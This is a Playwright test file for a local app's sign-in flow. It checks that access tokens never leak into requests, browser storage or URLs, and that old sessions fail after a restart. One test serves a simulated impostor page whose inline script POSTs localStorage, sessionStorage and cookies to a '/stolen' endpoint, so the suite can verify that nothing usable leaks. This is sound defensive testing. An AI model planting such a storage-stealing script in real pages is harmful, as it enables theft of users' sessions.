import { rm } from 'node:fs/promises'
import type { Page, Request } from '@playwright/test'
import { launchHost, type RunningHost, temporaryDataDir } from '../host.ts'
import { listenAsImpostor } from '../impostor.ts'
import { expect, finishFirstRun, openApp, test } from './app.ts'
import { words } from './words.ts'

const heading = (name: string) => ({ name: words(name) })
const portOf = ({ url }: RunningHost): number => Number(new URL(url).port)

/** Whatever of some text could be a credential. */
const candidatesIn = (texts: readonly string[]): string[] => [
  ...new Set(texts.flatMap((text) => text.match(/[\w.~+/=-]{16,}/g) ?? [])),
]

/** How a host answers to each, as a bearer token and on the address of events. */
const opens = async ({ url }: RunningHost, candidates: readonly string[]): Promise<string[]> => {
  const found: string[] = []
  for (const candidate of candidates) {
    const listed = await fetch(`${url}/api/IKnowledgeApi/ListDocuments`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${candidate}` },
    })
    const streamed = await fetch(`${url}/api/notifications?access_token=${encodeURIComponent(candidate)}`)
    await streamed.body?.cancel()
    if (listed.ok || streamed.ok) found.push(candidate)
  }
  return found
}

test('a link signs a browser in once; its tabs share that, and nothing is left in the address', async ({
  watched,
  host,
}) => {
  await finishFirstRun(host)
  await watched.goto(host.openUrl)
  await expect(watched.getByRole('navigation', heading('shell.navigation'))).toBeVisible()
  expect(watched.url()).not.toContain('access_token')
  const second = await watched.context().newPage()
  await second.goto(`${host.url}/documents`)
  await expect(second.getByRole('navigation', heading('shell.navigation'))).toBeVisible()

  const stranger = await (await watched.context().browser()?.newContext())?.newPage()
  if (!stranger) throw new Error('There is no second browser.')
  await stranger.goto(host.openUrl)
  await expect(stranger.getByText(words('shell.signIn.refused'))).toBeVisible()
  await stranger.context().close()
})

test('a page sends the token to nobody, not even to its own host, and keeps a session alone', async ({
  watched,
  host,
}) => {
  await finishFirstRun(host)
  const sent: string[] = []
  watched.on('request', (request) => {
    if (request.isNavigationRequest()) return
    sent.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`)
  })
  await watched.goto(host.url)
  await watched.getByLabel(words('shell.signIn.label')).fill(host.token)
  await watched.keyboard.press('Enter')
  await expect(watched.getByRole('navigation', heading('shell.navigation'))).toBeVisible()
  expect(sent.length).toBeGreaterThan(3)
  expect(sent.join('\n')).not.toContain(host.token)
  const kept = await watched.evaluate(() =>
    JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
  )
  expect(kept).not.toContain(host.token)
  expect(kept).toContain('alcove.session')
})

/** The calls of contracts that a page has sent: those that were not answered yet, and whether one was. */
const callsOf = (page: Page) => {
  const underWay = new Set<Request>()
  const answered = new Set<string>()
  page.on('request', (request) => {
    if (/\/api\/I[A-Z]/.test(request.url())) underWay.add(request)
  })
  page.on('requestfinished', (request) => {
    underWay.delete(request)
    answered.add(new URL(request.url()).pathname)
  })
  page.on('requestfailed', (request) => void underWay.delete(request))
  return { underWay, answered }
}

test('who takes the port after the host learns nothing from an open tab, nor from a reload (a tab handed over the token within 9 s, a reload sessionStorage)', async ({
  watched,
}) => {
  const dataDir = await temporaryDataDir()
  try {
    const host = await launchHost({ dataDir, bundle: true })
    await finishFirstRun(host)
    const { underWay, answered } = callsOf(watched)
    await watched.goto(host.openUrl)
    await expect(watched.getByRole('navigation', heading('shell.navigation'))).toBeVisible()
    // A browser by itself sends again what was under way when the connection broke: docs/threat-model.md says what that is worth.
    // The libraries are what a page asks for last.
    await expect.poll(() => answered.has('/api/ILibrariesApi/ListLibraries') && underWay.size === 0).toBe(true)
    await host.kill9()
    await using impostor = await listenAsImpostor({
      port: portOf(host),
      page: '<script>fetch("/stolen", { method: "POST", body: JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]) })</script>',
      answer: { proof: 'x', nonce: 'x', session: 'x.y', ticket: 'x' },
    })
    // The tab finds out by itself, and says so.
    await expect(watched.getByRole('heading', heading('shell.signIn.title.Ended'))).toBeVisible()
    expect(impostor.captured.some((text) => text.startsWith('POST /api/session/proof'))).toBe(true)
    expect(impostor.captured.filter((text) => /authorization|access_token/i.test(text))).toEqual([])
    // Whoever enters the token there shows that they know it, and does not tell it.
    await watched.getByLabel(words('shell.signIn.label')).fill(host.token)
    await watched.keyboard.press('Enter')
    await expect(watched.getByText(words('shell.signIn.refused'))).toBeVisible()
    await watched.reload()
    await expect.poll(() => impostor.captured.some((text) => text.startsWith('POST /stolen'))).toBe(true)
    const captured = [...impostor.captured]
    expect(captured.join('\n')).not.toContain(host.token)

    await using next = await launchHost({ dataDir, bundle: true })
    expect(next.token).toBe(host.token)
    expect(candidatesIn(captured).length).toBeGreaterThan(0)
    expect(await opens(next, candidatesIn(captured))).toEqual([])
  } finally {
    await rm(dataDir, { recursive: true, force: true })
  }
})

test('after every browser was signed out, the token opens the same page again (it said that Alcove cannot be reached until it was loaded anew)', async ({
  watched,
  host,
}) => {
  await finishFirstRun(host)
  await openApp(watched, host, '/settings')
  const navigation = watched.getByRole('navigation', heading('shell.navigation'))
  for (let round = 0; round < 2; round += 1) {
    await watched.getByRole('button', { name: words('settings.data.signOut') }).click()
    const dialog = watched.getByRole('alertdialog')
    await expect(dialog).toContainText(words('settings.data.confirmSignOut.text'))
    await dialog.getByRole('button', { name: words('settings.data.signOut') }).click()
    await expect(watched.getByRole('heading', heading('shell.signIn.title.Ended'))).toBeVisible()
    await watched.getByLabel(words('shell.signIn.label')).fill(host.token)
    await watched.keyboard.press('Enter')
    await expect(navigation).toBeVisible()
  }
  await navigation.getByRole('link', { name: words('shell.documents') }).click()
  await expect(watched.getByRole('heading', { level: 1, name: words('documents.title') })).toBeVisible()
})

test('what a reload hands over while the session is alive is worth nothing at the next run', async ({ watched }) => {
  const dataDir = await temporaryDataDir()
  try {
    const host = await launchHost({ dataDir, bundle: true })
    await finishFirstRun(host)
    await watched.goto(host.openUrl)
    await expect(watched.getByRole('navigation', heading('shell.navigation'))).toBeVisible()
    const kept = await watched.evaluate(() => JSON.stringify({ ...localStorage }))
    const [session] = await opens(host, candidatesIn([kept]))
    expect(session).toBeDefined()
    await host.stop()
    await using next = await launchHost({ dataDir, bundle: true })
    expect(await opens(next, candidatesIn([kept]))).toEqual([])
    // One click on the new link, and the browser is back.
    await watched.goto(next.openUrl)
    await expect(watched.getByRole('navigation', heading('shell.navigation'))).toBeVisible()
  } finally {
    await rm(dataDir, { recursive: true, force: true })
  }
})
